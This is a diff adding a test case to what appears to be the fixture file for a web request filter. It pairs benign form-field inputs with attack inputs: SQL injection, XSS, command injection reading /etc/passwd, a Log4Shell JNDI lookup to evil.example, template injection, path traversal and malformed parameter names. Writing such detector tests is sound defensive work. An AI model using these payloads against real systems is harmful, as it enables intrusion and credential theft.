@@ -312,6 +312,42 @@ const KINDS: Readonly<
       filled({ share: '\\\\nas01\\..\\..\\windows\\win.ini' }),
     ],
   },
+  'a text in a field of a form object': {
+    honest: [
+      filled({ 'issue[description]': 'Then open /etc/hosts and add a line.' }),
+      filled({ 'issue[notes]': 'It is in ../../etc/nginx/nginx.conf' }),
+      filled({ 'body[0][value]': 'SELECT name FROM students WHERE grade >= 50 ORDER BY name' }),
+      filled({ 'field_summary[und][0][value]': 'Then open /etc/hosts and add a line.' }),
+      filled({ 'jform[articletext]': 'Hi\r\nSubject: x\r\nContent-Type: text/plain' }),
+      filled({ 'description[en]': 'Then open /etc/hosts and add a line.' }),
+      filled({ 'translations[pt-br][body]': '{{ 7*7 }} is 49' }),
+      filled({ 'widget-text[2][text]': 'Then open /etc/hosts and add a line.' }),
+      filled({ 'comments[]': 'Then open /etc/hosts and add a line.' }),
+      filled({ wpTextbox1: 'Then open /etc/hosts and add a line.', wpSummary: '{{ 7*7 }} is 49' }),
+      filled({ wikitext: 'Then open /etc/hosts and add a line.' }),
+      filled({ excerpt: 'Then open /etc/hosts and add a line.' }),
+    ],
+    attacks: [
+      filled({ 'issue[description]': "x' UNION SELECT password FROM users--" }),
+      filled({ 'issue[description]': '<script>alert(1)</script>' }),
+      filled({ 'issue[notes]': '; cat /etc/passwd' }),
+      filled({ 'body[0][value]': '$' + '{jndi:ldap://evil.example/a}' }),
+      filled({ 'body[0][value]': "{{ ''.__class__.__mro__ }}" }),
+      filled({ wpTextbox1: '<img src=x onerror=alert(1)>' }),
+      filled({ 'page[file]': '/etc/passwd' }),
+      filled({ 'files[]': '../../../etc/passwd' }),
+      filled({ 'text[file]': '/etc/passwd' }),
+      filled({ 'file[0]': '/etc/passwd' }),
+      filled({ 'file[en]': '/etc/passwd' }),
+      filled({ 'file[0][value]': '/etc/passwd' }),
+      // What PHP and others read as a value of its own.
+      filled({ 'file[text': '/etc/passwd' }),
+      filled({ 'file[0]text]': '/etc/passwd' }),
+      filled({ 'file [text] x[text]': '/etc/passwd' }),
+      filled({ '[text]': '/etc/passwd' }),
+      asked('/s', { 'issue[description]': '/etc/passwd' }),
+    ],
+  },
   'a mail as a body': {
     honest: [
       raw(
